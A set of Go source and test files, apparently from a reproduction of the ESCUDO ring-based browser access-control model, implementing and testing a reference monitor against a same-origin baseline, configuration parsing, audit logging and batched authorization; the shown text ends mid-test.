	// Object in ring 1 with an (illegally lax) ACL admitting ring 3.
	o := Object(siteA, 1, UniformACL(3), "object")
	p := Principal(siteA, 3, "outer principal")
	d := erm.Authorize(p, OpRead, o)
	if d.Allowed {
		t.Fatal("lax ACL must not override the ring rule")
	}
	if d.Rule != RuleRing {
		t.Errorf("rule = %v, want ring-rule", d.Rule)
	}
}

func TestSOPMonitor(t *testing.T) {
	sop := &SOPMonitor{}
	// Same origin: everything goes, regardless of rings and ACLs —
	// the §2.3 failure mode ESCUDO fixes.
	d := sop.Authorize(Principal(siteA, 3, "untrusted"), OpWrite, Object(siteA, 0, ACL{}, "trusted"))
	if !d.Allowed {
		t.Error("SOP must allow same-origin access irrespective of trustworthiness")
	}
	// Cross origin: denied.
	d = sop.Authorize(Principal(siteB, 0, "p"), OpRead, Object(siteA, 3, PermissiveACL(3), "o"))
	if d.Allowed || d.Rule != RuleOrigin {
		t.Errorf("SOP cross-origin = %v, want origin denial", d)
	}
}

// TestLegacyEquivalence verifies §6.3: a page with no configuration
// (all labels ring 0, permissive page) behaves identically under ERM
// and SOP.
func TestLegacyEquivalence(t *testing.T) {
	erm := &ERM{}
	sop := &SOPMonitor{}
	origins := []origin.Origin{siteA, siteB}
	ops := []Op{OpRead, OpWrite, OpUse}
	for _, po := range origins {
		for _, oo := range origins {
			for _, op := range ops {
				// Legacy labels: everything in ring 0 with a ring-0 ACL.
				p := Principal(po, 0, "p")
				o := Object(oo, 0, UniformACL(0), "o")
				if got, want := erm.Authorize(p, op, o).Allowed, sop.Authorize(p, op, o).Allowed; got != want {
					t.Errorf("legacy page: ERM=%v SOP=%v for %v %v %v", got, want, po, op, oo)
				}
			}
		}
	}
}

// TestMonotonicity property: granting a principal a more privileged
// ring never turns an allowed access into a denial (decisions are
// monotone in privilege). This is the fundamental soundness property
// of the HPR adaptation.
func TestMonotonicity(t *testing.T) {
	erm := &ERM{}
	f := func(pRing, oRing, r, w, x uint8, opSel uint8, sameOrigin bool) bool {
		maxRing := Ring(7)
		op := []Op{OpRead, OpWrite, OpUse}[opSel%3]
		po := siteA
		oo := siteA
		if !sameOrigin {
			oo = siteB
		}
		obj := Object(oo, Ring(oRing%8), ACL{Read: Ring(r % 8), Write: Ring(w % 8), Use: Ring(x % 8)}, "o")
		prev := false
		// Walk from least privileged to most privileged; allowed must
		// be monotone (once allowed, stays allowed as privilege grows).
		for ring := maxRing; ring >= 0; ring-- {
			d := erm.Authorize(Principal(po, ring, "p"), op, obj)
			if prev && !d.Allowed {
				return false
			}
			prev = d.Allowed
			if ring == 0 {
				break
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

// TestERMStricterThanSOP property: every access ESCUDO allows, the SOP
// also allows — ESCUDO only subtracts privileges, never adds.
func TestERMStricterThanSOP(t *testing.T) {
	erm := &ERM{}
	sop := &SOPMonitor{}
	f := func(pRing, oRing, r, w, x uint8, opSel uint8, sameOrigin bool) bool {
		op := []Op{OpRead, OpWrite, OpUse}[opSel%3]
		oo := siteA
		if !sameOrigin {
			oo = siteB
		}
		p := Principal(siteA, Ring(pRing%8), "p")
		o := Object(oo, Ring(oRing%8), ACL{Read: Ring(r % 8), Write: Ring(w % 8), Use: Ring(x % 8)}, "o")
		if erm.Authorize(p, op, o).Allowed && !sop.Authorize(p, op, o).Allowed {
			return false
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 1000}); err != nil {
		t.Error(err)
	}
}

func TestAuditLog(t *testing.T) {
	log := &AuditLog{}
	erm := &ERM{Trace: log.Record}
	erm.Authorize(Principal(siteA, 0, "p"), OpRead, Object(siteA, 3, PermissiveACL(3), "o"))
	erm.Authorize(Principal(siteB, 0, "p"), OpRead, Object(siteA, 3, PermissiveACL(3), "o"))
	if got := log.Len(); got != 2 {
		t.Fatalf("log.Len() = %d, want 2", got)
	}
	den := log.Denials()
	if len(den) != 1 || den[0].Rule != RuleOrigin {
		t.Errorf("Denials() = %v, want one origin denial", den)
	}
	all := log.All()
	if len(all) != 2 || !all[0].Allowed || all[1].Allowed {
		t.Errorf("All() = %v, want allow then deny", all)
	}
	log.Reset()
	if log.Len() != 0 {
		t.Error("Reset must clear the log")
	}
}

func TestDecisionString(t *testing.T) {
	erm := &ERM{}
	d := erm.Authorize(Principal(siteA, 3, "comment"), OpWrite, Object(siteA, 1, ACL{}, "post"))
	s := d.String()
	for _, want := range []string{"DENY", "ring-rule", "comment", "post", "write"} {
		if !contains(s, want) {
			t.Errorf("Decision.String() = %q, missing %q", s, want)
		}
	}
}

func contains(s, sub string) bool {
	return len(s) >= len(sub) && (s == sub || len(sub) == 0 || indexOf(s, sub) >= 0)
}

func indexOf(s, sub string) int {
	for i := 0; i+len(sub) <= len(s); i++ {
		if s[i:i+len(sub)] == sub {
			return i
		}
	}
	return -1
}

// TestTaxonomy pins the Table 1 taxonomy names so the inventory is
// stable and self-describing.
func TestTaxonomy(t *testing.T) {
	principals := map[PrincipalKind]string{
		PrincipalHTTPRequest:  "http-request-issuing",
		PrincipalScript:       "script-invoking",
		PrincipalEventHandler: "ui-event-handler",
		PrincipalPlugin:       "plugin",
		PrincipalBrowser:      "browser",
	}
	for k, want := range principals {
		if got := k.String(); got != want {
			t.Errorf("PrincipalKind(%d).String() = %q, want %q", k, got, want)
		}
	}
	objects := map[ObjectKind]string{
		ObjectDOM:          "dom",
		ObjectCookie:       "cookie",
		ObjectNativeAPI:    "native-api",
		ObjectBrowserState: "browser-state",
	}
	for k, want := range objects {
		if got := k.String(); got != want {
			t.Errorf("ObjectKind(%d).String() = %q, want %q", k, got, want)
		}
	}
}
