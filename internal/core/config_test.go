package core

import (
	"strings"
	"testing"
	"testing/quick"
)

func TestParseACAttrsFigure2(t *testing.T) {
	// Figure 2's outer tag: <div ring=2 r=1 w=0 x=2>.
	got := ParseACAttrs(map[string]string{"ring": "2", "r": "1", "w": "0", "x": "2"}, 3, 0)
	if !got.HasRing {
		t.Fatal("tag with ring attribute must be an AC tag")
	}
	if got.Ring != 2 {
		t.Errorf("Ring = %d, want 2", got.Ring)
	}
	if want := (ACL{Read: 1, Write: 0, Use: 2}); got.ACL != want {
		t.Errorf("ACL = %v, want %v", got.ACL, want)
	}
}

func TestParseACAttrsScopingRule(t *testing.T) {
	// §5: children are bounded by the parent's ring even if the
	// markup claims otherwise.
	got := ParseACAttrs(map[string]string{"ring": "0"}, 3, 2)
	if got.Ring != 2 {
		t.Errorf("inner ring=0 under parent ring 2: got %d, want clamped to 2", got.Ring)
	}
	// A properly nested less-privileged child is untouched.
	got = ParseACAttrs(map[string]string{"ring": "3"}, 3, 2)
	if got.Ring != 3 {
		t.Errorf("inner ring=3 under parent ring 2: got %d, want 3", got.Ring)
	}
}

func TestParseACAttrsFailSafeDefaults(t *testing.T) {
	// §4.3: missing ring ⇒ not an AC tag; present ring with missing
	// ACL attributes ⇒ r=0 w=0 x=0.
	got := ParseACAttrs(map[string]string{"class": "x"}, 3, 1)
	if got.HasRing {
		t.Error("div without ring attribute must not be an AC tag")
	}
	got = ParseACAttrs(map[string]string{"ring": "2"}, 3, 0)
	if got.ACL != (ACL{}) {
		t.Errorf("missing ACL attrs = %v, want zero (ring-0-only)", got.ACL)
	}
	// Malformed ring degrades to the least privileged ring, never to
	// a privileged one.
	got = ParseACAttrs(map[string]string{"ring": "bogus"}, 3, 1)
	if got.Ring != 3 {
		t.Errorf("malformed ring = %d, want fail-safe 3", got.Ring)
	}
	// Malformed ACL entry degrades to ring 0 (deny to all but kernel).
	got = ParseACAttrs(map[string]string{"ring": "2", "w": "nope"}, 3, 0)
	if got.ACL.Write != 0 {
		t.Errorf("malformed w = %d, want fail-safe 0", got.ACL.Write)
	}
}

func TestParseACAttrsNonce(t *testing.T) {
	got := ParseACAttrs(map[string]string{"ring": "2", "nonce": "3847"}, 3, 0)
	if got.Nonce != "3847" {
		t.Errorf("Nonce = %q, want 3847", got.Nonce)
	}
}

func TestFormatACAttrsRoundTrip(t *testing.T) {
	f := func(ring, r, w, x uint8, withNonce bool) bool {
		maxRing := Ring(7)
		in := ACAttrs{
			HasRing: true,
			Ring:    Ring(ring % 8),
			ACL:     ACL{Read: Ring(r % 8), Write: Ring(w % 8), Use: Ring(x % 8)},
		}
		nonce := ""
		if withNonce {
			nonce = "12345"
		}
		s := FormatACAttrs(in.Ring, in.ACL, nonce)
		attrs := map[string]string{}
		for _, kv := range strings.Fields(s) {
			k, v, _ := strings.Cut(kv, "=")
			attrs[k] = v
		}
		out := ParseACAttrs(attrs, maxRing, 0)
		return out.HasRing && out.Ring == in.Ring && out.ACL == in.ACL && out.Nonce == nonce
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestIsConfigAttr(t *testing.T) {
	for _, a := range []string{"ring", "r", "w", "x", "nonce", "RING", "Nonce"} {
		if !IsConfigAttr(a) {
			t.Errorf("IsConfigAttr(%q) = false, want true", a)
		}
	}
	for _, a := range []string{"class", "id", "href", "src", "onclick", ""} {
		if IsConfigAttr(a) {
			t.Errorf("IsConfigAttr(%q) = true, want false", a)
		}
	}
}

func TestParseCookieHeader(t *testing.T) {
	cc, err := ParseCookieHeader("phpbb2mysql_sid; ring=1; r=1; w=1; x=1", 3)
	if err != nil {
		t.Fatal(err)
	}
	if cc.Name != "phpbb2mysql_sid" || cc.Ring != 1 || cc.ACL != UniformACL(1) {
		t.Errorf("cc = %+v", cc)
	}
	// ACL defaults to the cookie's ring when omitted.
	cc, err = ParseCookieHeader("sid; ring=2", 3)
	if err != nil {
		t.Fatal(err)
	}
	if cc.ACL != UniformACL(2) {
		t.Errorf("default ACL = %v, want uniform 2", cc.ACL)
	}
	// No ring at all: ring 0.
	cc, err = ParseCookieHeader("plain", 3)
	if err != nil {
		t.Fatal(err)
	}
	if cc.Ring != 0 {
		t.Errorf("ring = %d, want 0", cc.Ring)
	}
}

func TestParseCookieHeaderErrors(t *testing.T) {
	bad := []string{
		"",
		"; ring=1",
		"sid; ring=9",   // exceeds maxRing 3
		"sid; ring=abc", // not a number
		"sid; r",        // parameter without =
		"sid; w=7",      // ACL out of range
	}
	for _, v := range bad {
		if cc, err := ParseCookieHeader(v, 3); err == nil {
			t.Errorf("ParseCookieHeader(%q) = %+v, want error", v, cc)
		}
	}
}

func TestParseAPIHeader(t *testing.T) {
	ac, err := ParseAPIHeader("XMLHttpRequest; ring=1", 3)
	if err != nil {
		t.Fatal(err)
	}
	if ac.Name != "xmlhttprequest" || ac.Ring != 1 {
		t.Errorf("ac = %+v", ac)
	}
	if _, err := ParseAPIHeader("xhr; ring=12", 3); err == nil {
		t.Error("out-of-range API ring must fail")
	}
}

func TestParsePageConfig(t *testing.T) {
	cfg, errs := ParsePageConfig(
		[]string{"3"},
		[]string{"sid; ring=1; r=1; w=1; x=1", "data; ring=1"},
		[]string{"xmlhttprequest; ring=1"},
	)
	if len(errs) != 0 {
		t.Fatalf("errs = %v", errs)
	}
	if cfg.MaxRing != 3 {
		t.Errorf("MaxRing = %d, want 3", cfg.MaxRing)
	}
	if r, acl := cfg.CookieRing("sid"); r != 1 || acl != UniformACL(1) {
		t.Errorf("sid = ring %d acl %v", r, acl)
	}
	if r, _ := cfg.CookieRing("unknown"); r != 0 {
		t.Errorf("unconfigured cookie ring = %d, want 0 (§4.1 default)", r)
	}
	if r := cfg.APIRing("XMLHttpRequest"); r != 1 {
		t.Errorf("APIRing(XMLHttpRequest) = %d, want 1", r)
	}
	if r := cfg.APIRing("dom"); r != 0 {
		t.Errorf("unconfigured API ring = %d, want fail-safe 0", r)
	}
	if !cfg.Configured() {
		t.Error("cfg must report configured")
	}
}

func TestParsePageConfigDefaults(t *testing.T) {
	cfg, errs := ParsePageConfig(nil, nil, nil)
	if len(errs) != 0 {
		t.Fatalf("errs = %v", errs)
	}
	if cfg.Configured() {
		t.Error("empty config must report unconfigured (legacy page)")
	}
	if cfg.MaxRing != 0 {
		t.Errorf("legacy MaxRing = %d, want 0", cfg.MaxRing)
	}
	// Cookie headers without a MaxRing imply the default N=3.
	cfg, _ = ParsePageConfig(nil, []string{"sid; ring=1"}, nil)
	if cfg.MaxRing != DefaultMaxRing {
		t.Errorf("implied MaxRing = %d, want %d", cfg.MaxRing, DefaultMaxRing)
	}
}

func TestParsePageConfigBadValuesDegrade(t *testing.T) {
	cfg, errs := ParsePageConfig([]string{"bogus"}, []string{"sid; ring=nope"}, []string{"; ring=1"})
	if len(errs) != 3 {
		t.Fatalf("errs = %v, want 3", errs)
	}
	if len(cfg.Cookies) != 0 || len(cfg.APIs) != 0 {
		t.Error("malformed entries must not be installed")
	}
}

func TestPageConfigHeaderRoundTrip(t *testing.T) {
	cfg := NewPageConfig(3)
	cfg.Cookies["sid"] = CookieConfig{Name: "sid", Ring: 1, ACL: UniformACL(1)}
	cfg.Cookies["data"] = CookieConfig{Name: "data", Ring: 2, ACL: ACL{Read: 2, Write: 1, Use: 2}}
	cfg.APIs["xmlhttprequest"] = APIConfig{Name: "xmlhttprequest", Ring: 1}

	maxRing, cookies, apis := cfg.HeaderValues()
	back, errs := ParsePageConfig([]string{maxRing}, cookies, apis)
	if len(errs) != 0 {
		t.Fatalf("errs = %v", errs)
	}
	if back.MaxRing != cfg.MaxRing {
		t.Errorf("MaxRing = %d, want %d", back.MaxRing, cfg.MaxRing)
	}
	for name, want := range cfg.Cookies {
		if got := back.Cookies[name]; got != want {
			t.Errorf("cookie %q = %+v, want %+v", name, got, want)
		}
	}
	for name, want := range cfg.APIs {
		if got := back.APIs[name]; got != want {
			t.Errorf("api %q = %+v, want %+v", name, got, want)
		}
	}
}

func TestContextString(t *testing.T) {
	c := Object(siteA, 2, ACL{Read: 1}, "post")
	s := c.String()
	for _, want := range []string{"post", "ring=2", "r=1"} {
		if !strings.Contains(s, want) {
			t.Errorf("Context.String() = %q missing %q", s, want)
		}
	}
	var empty Context
	if !strings.Contains(empty.String(), "?") {
		t.Errorf("empty context should render placeholder label: %q", empty.String())
	}
}
