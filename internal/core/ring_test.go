package core

import (
	"errors"
	"testing"
	"testing/quick"
)

func TestParseRing(t *testing.T) {
	tests := []struct {
		in      string
		maxRing Ring
		want    Ring
		wantErr bool
	}{
		{"0", 3, 0, false},
		{"1", 3, 1, false},
		{"3", 3, 3, false},
		{"4", 3, 0, true},
		{"-1", 3, 0, true},
		{"", 3, 0, true},
		{"abc", 3, 0, true},
		{"2x", 3, 0, true},
		{"7", 7, 7, false},
		{"256", MaxSupportedRing, 0, true},
	}
	for _, tt := range tests {
		got, err := ParseRing(tt.in, tt.maxRing)
		if tt.wantErr {
			if err == nil {
				t.Errorf("ParseRing(%q, %d) = %d, want error", tt.in, tt.maxRing, got)
			} else if !errors.Is(err, ErrBadRing) {
				t.Errorf("ParseRing(%q) error %v, want ErrBadRing", tt.in, err)
			}
			continue
		}
		if err != nil {
			t.Errorf("ParseRing(%q, %d) error: %v", tt.in, tt.maxRing, err)
			continue
		}
		if got != tt.want {
			t.Errorf("ParseRing(%q, %d) = %d, want %d", tt.in, tt.maxRing, got, tt.want)
		}
	}
}

func TestRingClamp(t *testing.T) {
	tests := []struct {
		r, max, want Ring
	}{
		{0, 3, 0},
		{3, 3, 3},
		{5, 3, 3},
		{-2, 3, 0},
		{2, 0, 0},
	}
	for _, tt := range tests {
		if got := tt.r.Clamp(tt.max); got != tt.want {
			t.Errorf("Ring(%d).Clamp(%d) = %d, want %d", tt.r, tt.max, got, tt.want)
		}
	}
}

func TestRingOrdering(t *testing.T) {
	// Ring 0 is the most privileged (paper §3): privileges shrink as
	// numbers grow.
	if !RingKernel.AtLeastAsPrivileged(3) {
		t.Error("ring 0 must dominate ring 3")
	}
	if Ring(3).AtLeastAsPrivileged(1) {
		t.Error("ring 3 must not dominate ring 1")
	}
	if !Ring(2).AtLeastAsPrivileged(2) {
		t.Error("a ring must dominate itself")
	}
}

func TestRingOutermost(t *testing.T) {
	if got := Ring(1).Outermost(3); got != 3 {
		t.Errorf("Outermost(1,3) = %d, want 3", got)
	}
	if got := Ring(3).Outermost(1); got != 3 {
		t.Errorf("Outermost(3,1) = %d, want 3", got)
	}
	if got := Ring(2).Outermost(2); got != 2 {
		t.Errorf("Outermost(2,2) = %d, want 2", got)
	}
}

func TestRingLatticeProperties(t *testing.T) {
	// AtLeastAsPrivileged is a total order on rings: reflexive,
	// antisymmetric, transitive; Outermost is its join.
	type r3 struct{ A, B, C uint8 }
	f := func(x r3) bool {
		a, b, c := Ring(x.A%8), Ring(x.B%8), Ring(x.C%8)
		if !a.AtLeastAsPrivileged(a) {
			return false
		}
		if a.AtLeastAsPrivileged(b) && b.AtLeastAsPrivileged(a) && a != b {
			return false
		}
		if a.AtLeastAsPrivileged(b) && b.AtLeastAsPrivileged(c) && !a.AtLeastAsPrivileged(c) {
			return false
		}
		j := a.Outermost(b)
		// The join is an upper bound reachable by both.
		return a.AtLeastAsPrivileged(j) && b.AtLeastAsPrivileged(j) && (j == a || j == b)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestOpString(t *testing.T) {
	tests := []struct {
		op   Op
		want string
	}{
		{OpRead, "read"},
		{OpWrite, "write"},
		{OpUse, "use"},
		{Op(0), "op(0)"},
	}
	for _, tt := range tests {
		if got := tt.op.String(); got != tt.want {
			t.Errorf("Op(%d).String() = %q, want %q", tt.op, got, tt.want)
		}
	}
}

func TestOpValid(t *testing.T) {
	for _, op := range []Op{OpRead, OpWrite, OpUse} {
		if !op.Valid() {
			t.Errorf("%v must be valid", op)
		}
	}
	for _, op := range []Op{0, 4, -1} {
		if op.Valid() {
			t.Errorf("Op(%d) must be invalid", op)
		}
	}
}
