package core

// WithGen returns the generation-pinning layer: every decision flowing
// out of the inner stack is stamped with a fixed policy generation and
// page identity, both captured once — at page-load entry — when the
// layer is built. The values are immutable for the layer's lifetime,
// which is exactly the control plane's isolation contract: a monitor
// built for a page keeps stamping the generation that page started
// under even if the fleet counter moves mid-flight, so the audit log
// can prove no load ever mixed generations (AuditLog.GenerationMix).
//
// Mount it inside WithObs (and hence inside WithAudit): the ring
// events and audit records then carry the stamp. With both values zero
// the layer is a pass-through, so deployments without a control plane
// compose an unchanged stack.
func WithGen(policyGen, pageID uint64) Layer {
	return func(inner Monitor) Monitor {
		if policyGen == 0 && pageID == 0 {
			return inner
		}
		return &genLayer{inner: inner, gen: policyGen, page: pageID}
	}
}

// genLayer stamps decisions with the pinned generation and page.
type genLayer struct {
	inner Monitor
	gen   uint64
	page  uint64
}

var (
	_ Monitor         = (*genLayer)(nil)
	_ BatchAuthorizer = (*genLayer)(nil)
)

// Authorize implements Monitor.
func (m *genLayer) Authorize(p Context, op Op, o Context) Decision {
	d := m.inner.Authorize(p, op, o)
	d.PolicyGen = m.gen
	d.PageID = m.page
	return d
}

// AuthorizeBatch implements BatchAuthorizer: the inner batch keeps its
// per-class dedup untouched (the stamp is constant across the region,
// so it cannot change how classes collapse), then every node's
// decision carries the pinned values.
func (m *genLayer) AuthorizeBatch(p Context, op Op, objects []Context) []Decision {
	out := AuthorizeBatch(m.inner, p, op, objects)
	for i := range out {
		out[i].PolicyGen = m.gen
		out[i].PageID = m.page
	}
	return out
}
