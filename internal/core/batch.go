package core

import (
	"sync/atomic"

	"repro/internal/origin"
)

// The ESCUDO rules depend only on the two origins, the two rings, the
// operation, and the object's ACL — never on element identity. When a
// principal touches a whole DOM region at once (innerHTML reads, the
// render traversal), the region's nodes collapse into a handful of
// (origin, ring, ACL) equivalence classes: a phpBB topic page with 200
// ring-3 posts asks the same ⟨P ⊳ O⟩ question 200 times. The batched
// path below computes each distinct class once — a single rule
// evaluation (or a single cache probe under CachedMonitor) per class —
// while still emitting one audited Decision per node, so §4.2 complete
// mediation is unchanged: only the decision computation is
// deduplicated.

// BatchAuthorizer is a Monitor that can decide many objects of one
// (principal, op) query in a single call, deduplicating decision
// computation by equivalence class.
type BatchAuthorizer interface {
	Monitor
	// AuthorizeBatch decides op for principal p on every object,
	// returning one Decision per object in input order. Each decision
	// is traced/audited individually. The returned slice may be
	// retained by the audit stream (AuditLog.RecordAll stores it
	// as-is); callers must not mutate it.
	AuthorizeBatch(p Context, op Op, objects []Context) []Decision
}

// AuthorizeBatch dispatches to m's batched path when it has one, and
// falls back to per-object Authorize otherwise (then every object is a
// distinct decision — correct, just undeduplicated).
func AuthorizeBatch(m Monitor, p Context, op Op, objects []Context) []Decision {
	if len(objects) == 0 {
		return nil
	}
	if ba, ok := m.(BatchAuthorizer); ok {
		return ba.AuthorizeBatch(p, op, objects)
	}
	out := make([]Decision, len(objects))
	for i, o := range objects {
		out[i] = m.Authorize(p, op, o)
	}
	recordBatch(len(objects), len(objects))
	return out
}

// batchClassKey is the decision-equivalence class of an object under a
// fixed (principal, op): everything the rules read from the object.
type batchClassKey struct {
	origin origin.Origin
	ring   Ring
	acl    ACL
}

// batchClasses is the small-region fast path for class lookup: most
// DOM regions collapse into a handful of classes, where a linear scan
// over a stack-friendly slice beats a map. Past maxLinear it spills
// into a map.
const maxLinearClasses = 16

type batchClasses struct {
	keys      []batchClassKey
	decisions []Decision
	spill     map[batchClassKey]Decision
}

func (c *batchClasses) get(k batchClassKey) (Decision, bool) {
	for i := range c.keys {
		if c.keys[i] == k {
			return c.decisions[i], true
		}
	}
	if c.spill != nil {
		d, ok := c.spill[k]
		return d, ok
	}
	return Decision{}, false
}

func (c *batchClasses) put(k batchClassKey, d Decision) {
	if len(c.keys) < maxLinearClasses {
		c.keys = append(c.keys, k)
		c.decisions = append(c.decisions, d)
		return
	}
	if c.spill == nil {
		c.spill = make(map[batchClassKey]Decision)
	}
	c.spill[k] = d
}

func (c *batchClasses) len() int { return len(c.keys) + len(c.spill) }

// batchDecide is the shared batching core: group objects by class,
// call decide once per distinct class, then emit a per-node Decision
// (echoing the node's own context, so audit trails keep the real
// labels). The audit stream goes through traceBatch as one call when
// set (one lock for the whole region), else through trace per node.
// It returns the decisions in input order.
func batchDecide(decide func(o Context) Decision, trace func(Decision), traceBatch func([]Decision), p Context, op Op, objects []Context) []Decision {
	out := make([]Decision, len(objects))
	var classes batchClasses
	for i, o := range objects {
		k := batchClassKey{origin: o.Origin, ring: o.Ring, acl: o.ACL}
		cd, ok := classes.get(k)
		if !ok {
			cd = decide(o)
			classes.put(k, cd)
		}
		out[i] = Decision{Allowed: cd.Allowed, Rule: cd.Rule, Principal: p, Op: op, Object: o}
		if traceBatch == nil && trace != nil {
			trace(out[i])
		}
	}
	if traceBatch != nil {
		traceBatch(out)
	}
	recordBatch(len(objects), classes.len())
	return out
}

var _ BatchAuthorizer = (*ERM)(nil)

// AuthorizeBatch implements BatchAuthorizer: one rule evaluation per
// distinct (origin, ring, ACL) class, one traced decision per object.
func (m *ERM) AuthorizeBatch(p Context, op Op, objects []Context) []Decision {
	return batchDecide(func(o Context) Decision { return m.decide(p, op, o) }, m.Trace, m.TraceBatch, p, op, objects)
}

var _ BatchAuthorizer = (*SOPMonitor)(nil)

// AuthorizeBatch implements BatchAuthorizer for the SOP baseline.
func (m *SOPMonitor) AuthorizeBatch(p Context, op Op, objects []Context) []Decision {
	return batchDecide(func(o Context) Decision { return m.decide(p, op, o) }, m.Trace, m.TraceBatch, p, op, objects)
}

var _ BatchAuthorizer = (*CachedMonitor)(nil)

// AuthorizeBatch implements BatchAuthorizer with the cache fast path:
// each distinct class costs a single cache probe (lookup, and on a
// miss one inner evaluation plus the store); repeated classes within
// the batch don't touch the cache at all.
func (m *CachedMonitor) AuthorizeBatch(p Context, op Op, objects []Context) []Decision {
	if m.Cache == nil {
		return batchDecide(func(o Context) Decision { return m.Inner.Authorize(p, op, o) }, m.Trace, m.TraceBatch, p, op, objects)
	}
	return batchDecide(func(o Context) Decision {
		k := key(p, op, o)
		v, gen, ok := m.Cache.lookup(k)
		if ok {
			return Decision{Allowed: v.allowed, Rule: v.rule, Principal: p, Op: op, Object: o}
		}
		d := m.Inner.Authorize(p, op, o)
		m.Cache.store(k, d, gen)
		return d
	}, m.Trace, m.TraceBatch, p, op, objects)
}

// Batch accounting: process-wide atomic counters of how many objects
// flowed through batched authorization and how many distinct decisions
// were actually computed. The load driver reports the pair per phase
// (nodes authorized vs. distinct decisions) as the dedup measure.
var (
	batchNodes    atomic.Uint64
	batchDistinct atomic.Uint64
)

func recordBatch(nodes, distinct int) {
	batchNodes.Add(uint64(nodes))
	batchDistinct.Add(uint64(distinct))
}

// BatchStats is a point-in-time snapshot of the batch counters.
type BatchStats struct {
	// Nodes counts objects authorized through the batched path.
	Nodes uint64
	// Distinct counts decisions actually computed (≤ Nodes; the gap is
	// the dedup win).
	Distinct uint64
}

// Sub returns the delta since an earlier snapshot, for per-phase
// reporting.
func (s BatchStats) Sub(earlier BatchStats) BatchStats {
	return BatchStats{Nodes: s.Nodes - earlier.Nodes, Distinct: s.Distinct - earlier.Distinct}
}

// DedupRatio returns Distinct/Nodes (1 means no dedup; 0 before any
// batch).
func (s BatchStats) DedupRatio() float64 {
	if s.Nodes == 0 {
		return 0
	}
	return float64(s.Distinct) / float64(s.Nodes)
}

// ReadBatchStats snapshots the process-wide batch counters.
func ReadBatchStats() BatchStats {
	return BatchStats{Nodes: batchNodes.Load(), Distinct: batchDistinct.Load()}
}
