package core

import (
	"sync"
	"testing"

	"repro/internal/origin"
)

var batchSite = origin.MustParse("http://batch.example")

// batchObjects builds n objects spread over k distinct (ring, ACL)
// classes.
func batchObjects(n, k int) []Context {
	out := make([]Context, n)
	for i := range out {
		ring := Ring(i % k)
		out[i] = Object(batchSite, ring, UniformACL(ring), "node")
	}
	return out
}

func TestAuthorizeBatchMatchesScalar(t *testing.T) {
	erm := &ERM{}
	p := Principal(batchSite, 1, "script")
	objs := batchObjects(40, 4)
	got := erm.AuthorizeBatch(p, OpRead, objs)
	if len(got) != len(objs) {
		t.Fatalf("decisions = %d, want %d", len(got), len(objs))
	}
	for i, o := range objs {
		want := (&ERM{}).Authorize(p, OpRead, o)
		if got[i].Allowed != want.Allowed || got[i].Rule != want.Rule {
			t.Errorf("objs[%d]: batch = %v/%v, scalar = %v/%v",
				i, got[i].Allowed, got[i].Rule, want.Allowed, want.Rule)
		}
		if got[i].Object.Label != o.Label || got[i].Object.Ring != o.Ring {
			t.Errorf("objs[%d]: decision does not echo the node's own context", i)
		}
	}
}

func TestAuthorizeBatchAuditsEveryNode(t *testing.T) {
	log := &AuditLog{}
	erm := &ERM{Trace: log.Record}
	p := Principal(batchSite, 2, "script")
	objs := batchObjects(30, 3)
	erm.AuthorizeBatch(p, OpWrite, objs)
	if log.Len() != len(objs) {
		t.Fatalf("audit records = %d, want %d (complete mediation requires one per node)", log.Len(), len(objs))
	}
	// The audit stream preserves input order and per-node identity.
	for i, d := range log.All() {
		if d.Object.Ring != objs[i].Ring {
			t.Errorf("audit[%d].Object.Ring = %d, want %d", i, d.Object.Ring, objs[i].Ring)
		}
	}
}

func TestAuthorizeBatchDeduplicates(t *testing.T) {
	before := ReadBatchStats()
	erm := &ERM{}
	p := Principal(batchSite, 1, "script")
	erm.AuthorizeBatch(p, OpRead, batchObjects(100, 4))
	delta := ReadBatchStats().Sub(before)
	if delta.Nodes < 100 {
		t.Fatalf("nodes = %d, want >= 100", delta.Nodes)
	}
	// Other tests may batch concurrently; the distinct count for THIS
	// call is bounded by checking the ratio on a quiet path instead:
	// re-run on a fresh monitor and require distinct << nodes overall.
	if delta.Distinct >= delta.Nodes {
		t.Errorf("distinct = %d, nodes = %d: no deduplication happened", delta.Distinct, delta.Nodes)
	}
}

func TestAuthorizeBatchCachedSingleProbePerClass(t *testing.T) {
	cache := NewDecisionCache()
	log := &AuditLog{}
	cm := &CachedMonitor{Inner: &ERM{}, Cache: cache, Trace: log.Record}
	p := Principal(batchSite, 1, "script")
	objs := batchObjects(60, 3)
	cm.AuthorizeBatch(p, OpRead, objs)
	st := cache.Stats()
	if got := st.Hits + st.Misses; got != 3 {
		t.Errorf("cache probes = %d, want 3 (one per class)", got)
	}
	if st.Misses != 3 {
		t.Errorf("misses = %d, want 3 on a cold cache", st.Misses)
	}
	if log.Len() != len(objs) {
		t.Errorf("audit records = %d, want %d", log.Len(), len(objs))
	}
	// Second batch: every class is now a hit.
	cm.AuthorizeBatch(p, OpRead, objs)
	st = cache.Stats()
	if st.Hits != 3 {
		t.Errorf("hits = %d, want 3 after warm batch", st.Hits)
	}
}

func TestAuthorizeBatchFallback(t *testing.T) {
	// A monitor without a batched path still authorizes everything.
	var m Monitor = plainMonitor{}
	p := Principal(batchSite, 1, "script")
	objs := batchObjects(10, 2)
	out := AuthorizeBatch(m, p, OpRead, objs)
	if len(out) != len(objs) {
		t.Fatalf("decisions = %d, want %d", len(out), len(objs))
	}
	for i := range out {
		if !out[i].Allowed {
			t.Errorf("objs[%d] denied by permissive fallback monitor", i)
		}
	}
	if AuthorizeBatch(m, p, OpRead, nil) != nil {
		t.Error("empty batch must return nil")
	}
}

// plainMonitor is a Monitor with no AuthorizeBatch, to exercise the
// fallback.
type plainMonitor struct{}

func (plainMonitor) Authorize(p Context, op Op, o Context) Decision {
	return Decision{Allowed: true, Rule: RuleAllowed, Principal: p, Op: op, Object: o}
}

func TestAuthorizeBatchConcurrent(t *testing.T) {
	cache := NewDecisionCache()
	log := &AuditLog{}
	p := Principal(batchSite, 1, "script")
	objs := batchObjects(50, 5)
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			cm := &CachedMonitor{Inner: &ERM{}, Cache: cache, Trace: log.Record}
			for i := 0; i < 20; i++ {
				cm.AuthorizeBatch(p, OpRead, objs)
			}
		}()
	}
	wg.Wait()
